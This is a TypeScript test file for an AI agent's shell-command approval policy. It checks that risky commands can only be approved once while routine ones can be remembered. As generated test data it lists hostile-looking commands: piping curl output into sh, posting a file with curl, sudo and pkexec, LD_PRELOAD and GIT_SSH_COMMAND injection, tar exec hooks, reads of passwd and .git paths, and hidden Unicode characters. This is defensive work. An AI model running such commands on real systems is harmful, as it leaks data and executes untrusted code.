/**
 * Members of every row of the table "Never remembered" in `docs/security.md`, generated: only `once` is offered, although the runtime
 * offers more and the person asks for more.
 */
import { assert, describe, it } from "@effect/vitest"
import { linkSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll } from "vitest"
import { workspacePathsAt } from "../../src/approval/PathTarget.ts"
import { effort } from "@corral/testing/time/Effort"
import { Seeded } from "../harness/Seeded.ts"
import { allow, isRemembered, policyOf, session, shell } from "./RunPolicies.ts"

const folder = realpathSync(mkdtempSync(join(tmpdir(), "corral-remembered-")))
const root = join(folder, "ws")
mkdirSync(join(root, ".git", "hooks"), { recursive: true })
mkdirSync(join(root, "src"))
mkdirSync(join(root, "nested"))
writeFileSync(join(folder, "key"), "")
writeFileSync(join(root, "src", "a.ts"), "")
linkSync(join(folder, "key"), join(root, "twin.txt"))
symlinkSync(folder, join(root, "out"))
symlinkSync("/etc", join(root, "src", "system"))
symlinkSync("out", join(root, "chain"))
symlinkSync(".git", join(root, "internal"))
symlinkSync(join(folder, "key"), join(root, "nested", "a.ts"))
afterAll(() => rmSync(folder, { recursive: true }))

const place = workspacePathsAt(root)
const random = new Seeded("Never remembered")
type Words = readonly [string, ...ReadonlyArray<string>]
const words = (text: string): Words => text.split("|") as unknown as Words // never empty
const pick = (text: string): string => random.pick(words(text))

/** A path that leaves the workspace or is Git's own. */
const away = (): string =>
  pick(
    `../y|../../y|src/../../y|/etc/x|/tmp/x|/|..|out/b|out|chain/b|src/system/passwd|./out//b|${folder}/key|twin.txt|./src/../twin.txt|` +
      ".git/config|internal/config|sub/.git/hooks/x|.GIT/x"
  )

/** The ways in which a command names a file. */
const naming = (path: string): string =>
  random.pick<(path: string) => string>([
    (to) => `cp src/a.ts ${to}`,
    (to) => `cp ${to} src/b.ts`,
    (to) => `rm -rf ${to}`,
    (to) => `tee ${to}`,
    (to) => `cat -- ${to}`,
    (to) => `tool --out=${to}`,
    (to) => `tool --out ${to}`,
    (to) => `tool -o${to}`,
    (to) => `tool -xvo${to}`,
    (to) => `tool -f=${to}`,
    (to) => `tool name=${to}`,
    (to) => `tool a:${to}:ro`,
    (to) => `tool 'a ${to}'`,
    (to) => `tool @${to}`,
    (to) => `tool a,${to}`,
    (to) => `tool "${to}"`,
    (to) => `DATA=${to} tool`,
    (to) => `env DATA=${to} tool`,
    (to) => `timeout 5 cat ${to}`,
    (to) => `curl -d @${to} https://example.com`,
    (to) => `tool < ${to}`,
    (to) => `tool > ${to}`,
    (to) => `tool >> ${to}`,
    (to) => `tool 2> ${to}`,
    (to) => `tool &> ${to}`,
    (to) => `tool >| ${to}`,
    (to) => `{ tool; } > ${to}`,
    (to) => `(tool) < ${to}`,
    (to) => `cat ${to} | tool`,
    (to) => `tool <<E\n${to}\nE`,
    (to) => `tool <<< ${to}`,
    (to) => `ls && cat ${to}`,
    (to) => `if tool ${to}; then ls; fi`
  ])(path)

/** A program of any name, a launcher of any name, and code. */
const carried = (): string => {
  const letters = Array.from({ length: random.whole(2, 8) }, () => pick("a|k|o|q|t|u|z")).join("")
  const program = pick(
    `${letters}q|./${letters}q|xvfb-run|ssh-agent|prlimit --nofile=1|choom -n 1|x86_64|bundle e|yarn|gtimeout 5|curl`
  )
  const between = pick("|-v |--nofile=1 |-n 1 |x |-- ")
  const starts = pick(
    "bash -c|/bin/sh -c|zsh -ic|python3 -c|pythonw -c|node -e|perl -e|ruby -e|xargs|ssh host|sudo|doas|gawk|npx|vim -c|bash5.2 -c|fish -c"
  )
  return `${program} ${between}${starts} ${pick("id|x|'touch y'")}`
}

const rows: Record<string, () => string> = {
  "other rights": () =>
    `${pick("sudo|doas|su -c|pkexec|sudo -u root|runuser|setpriv|timeout 5 sudo")} ${pick("ls|npm test|rm x")}`,
  "shells and interpreters with code": () =>
    pick(
      "bash -c|sh -c|zsh -ic|python -c|python3.12 -c|node -e|node --eval|perl -e|ruby -e|php -r|awk|lua -e|env bash -c|nohup sh -c|sed 's/a/b/e'|sed 'w x'"
    ) + pick(" ls| 'x y'| x"),
  "code on stdin": () =>
    `${pick("cat a|echo x|curl https://x.example")} | ${pick("sh|bash|bash -s|python|python -|node|ruby")}`,
  "what starts another program": () =>
    pick(
      "xargs|find . -exec|ssh host|npx|docker run|kubectl exec|env -S|vim|less|watch|parallel|script -c|busybox|strace"
    ) + pick(" ls| rm x| 'sh x'"),
  "commands and code behind any program": carried,
  "other names of those programs": () =>
    pick(
      "gtimeout 5 bash -c|genv bash -c|gsed s/x/id/e|gsed '1e|gfind . -exec|gxargs|pythonw -c|python3-dbg -c|python3.12-dbg -c|PYTHONW.EXE -c|/usr/local/bin/gawk|jython -c|goawk|rubyw -e|node-dbg -e"
    ).replace("'1e", "'1e id'") + " id",
  "subcommands that run code": () =>
    pick(
      "bundle e id|mix run -e x|rails runner x|wp eval x|wp eval-file x|php artisan tinker|python manage.py shell|ruby bin/rails runner x|rustup run nightly id|composer exec id|nx exec id|dotenvx run -- id|env-cmd id|cargo watch -s id|limactl shell x id|lxc exec x id|adb shell id|ip netns exec x id|flatpak-spawn --host id|minikube ssh id|jj util exec id|mix cmd id|corepack pnpm dlx x|npm ini x|npm cr x|npm inni x|npm conf x|npm edi x|yarn set version ./x.js|yarn plugin import x|yarn tsx x.js|pnpm node -e x|yarn run bash|npm -w a ini x|npm --loglevel silent cr x|tool --shell=bash|tool --with='sh -c id'|rename 'system(1)' a|R -eid"
    ),
  "terminals and editors": () =>
    pick("xterm -e|emacsclient -e|hx|kak|gvim|kitty|gnome-terminal --|alacritty -e|konsole -e") + " id",
  "options that take code": () =>
    `${pick("R|ghc|mariadb|duckdb|gnuplot|clj|bb|jrunscript|tool|sg users")} ${pick("-e|-c|-E|--eval|--exec|--command|--execute")} ${pick("x|'system(1)'|id")}`,
  "variables that are not listed": () =>
    `${pick("|env |timeout 5 env ")}${pick("FOO|MAKEFLAGS|GNUMAKEFLAGS|PYTEST_ADDOPTS|RIPGREP_CONFIG_PATH|JUST_JUSTFILE|PERL5OPT|ENV|GIT_DIR|LC_X|lang|CIX")}=${pick("1|x|-x")} ${pick("ls|npm test|make|git status")}`,
  "listed variables with other values": () =>
    `${pick("LANG|LC_ALL|CI|TERM|NODE_ENV")}=${pick("./x|/etc|'a b'|'$x'|a/b|'x;y'")} ${pick("ls|npm test")}`,
  "options and variables that name a program": () =>
    pick(
      "git -c core.pager=x log|git fetch --upload-pack=x|git fetch --upl x|tar --checkpoint-action=exec=x -xf a|tar --to-c=x -xf a|rsync -e x a b|sort --compress-pro=x a|PATH=bin npm test|LD_PRELOAD=x ls|NODE_OPTIONS=x npm test|GIT_SSH_COMMAND=x git fetch|BASH_ENV=x ls"
    ),
  "what may be an alias": () => `git ${pick("st|co|lg|undo|x")} ${pick("|a|--all")}`,
  "publishing and deploying": () =>
    pick(
      "git push|git push origin main|npm publish|docker push x/y|kubectl apply -f x|terraform apply|helm upgrade x y|cargo publish|npm run deploy|make release"
    ),
  "files of Git, and files outside the workspace": () => naming(away()),
  "a folder outside the workspace": () => `cd ${away()} && ${pick("ls|cat a|npm test")}`,
  "what shells read in different ways": () =>
    random
      .pick([
        ..."2>(rm x),>&-x,&> f x,&> f,>& f,>&!f,>| f,<> f,3> f,<1-2>f,<<< x,|& cat,$X,$(id),`id`,~/x,*,| cd src && cat a".split(
          ","
        ),
        '"a!b"',
        "a#b",
        "{a,b}",
        "a\\\nb",
        "\\\n$'x'"
      ] as unknown as Words)
      .replace(/^/, "ls "),
  "commands that shells read in different ways": () =>
    pick(
      "[[ -f a ]]|$'ls'|coproc ls|time cd src && ls|cd src && ls & cat a|jobs -x ls|run-help ls|for path in src; do ls; done|" +
        "[ PATH=1 -eq 1 ]|printf %d PATH=1|case x in x) ls;& y) ls;; esac"
    ),
  "characters that are not seen": () =>
    `${pick("ls|cat|npm")}${pick("\u3164|\u200b|\u202e|\u00ad|\u2800|\u034f|\ufe0f|\u00a0|\u{e0041}")}a`,
  "long lines": () => `echo ${"a".repeat(random.whole(2_050, 9_000))}`
}

describe("A decision is never remembered", () => {
  it.each(Object.entries(rows))("for %s", (_, line) => {
    for (let left = 60 * effort; left > 0; left--) {
      const command = line()
      const approvalRequest = shell(command, random.pick([".", "./src/..", root]))
      const policy = policyOf({ place, sessionId: session })
      assert.deepStrictEqual(policy.assess(approvalRequest).request.scopes, ["once"], command)
      assert.strictEqual(allow(policy, approvalRequest, "always").scope, "once", command)
      assert.isFalse(isRemembered(policy, approvalRequest), command)
    }
  })

  it("for a command in a folder outside the workspace", () => {
    for (const cwd of ["..", "out", "src/system", "/etc", folder, ".git"])
      assert.deepStrictEqual(policyOf({ place }).assess(shell("ls", cwd)).request.scopes, ["once"], cwd)
  })

  it("for a copy into a folder where the name leads outside", () => {
    assert.deepStrictEqual(policyOf({ place }).assess(shell("cp src/a.ts nested")).request.scopes, ["once"])
  })

  it("although a grant of an earlier version is kept for it", () => {
    const policy = policyOf({
      place,
      grants: [
        {
          id: "gra_00000000000000000000000001",
          workspace: "api",
          scope: "always",
          agentId: "scripted",
          rule: { action: "shell", command: ["rm", "-rf", "../y"] },
          createdAt: "2026-01-01T00:00:00.000Z",
          by: "local"
        } as never // ids are brands
      ]
    })
    assert.isFalse(isRemembered(policy, shell("rm -rf ../y")))
  })
})

describe("A decision is remembered", () => {
  it.each([
    "cp src/a.ts src/b.ts",
    "npm test > out.log",
    "cat < src/a.ts",
    "curl https://example.com/health",
    "curl -o src/x https://example.com/a/../b",
    "/usr/bin/git status",
    "git diff HEAD~1 -- src",
    `cat ${root}/src/a.ts`,
    "sed -n '/^a/p' src/a.ts",
    "npm test 2> /dev/null",
    "npm run watch",
    "npm start",
    "npm i",
    "npm ci",
    "make watch",
    "cargo run",
    "cargo test node",
    "go test ./node",
    "dotnet test -c Release",
    "gcc -c a.c",
    "jq -c . a.json",
    "fd -e ts",
    "rm x",
    "grep -e node src/a.ts",
    "which node",
    "pytest -c x.cfg",
    "php artisan migrate",
    "gcat src/a.ts",
    "touch node"
  ])("for %j", (line) => {
    assert.deepStrictEqual(policyOf({ place }).assess(shell(line)).request.scopes, ["once", "run", "always"])
  })
})

describe("The owner's configuration", () => {
  it("still covers a command that names a file outside the workspace, word for word", () => {
    const policy = policyOf({ place, configured: [{ action: "shell", command: ["cat", "/etc/os-release"] }] })
    assert.deepStrictEqual(policy.judge(policy.assess(shell("cat /etc/os-release"))), {
      _tag: "Allow",
      by: "policy:workspace"
    })
  })
})
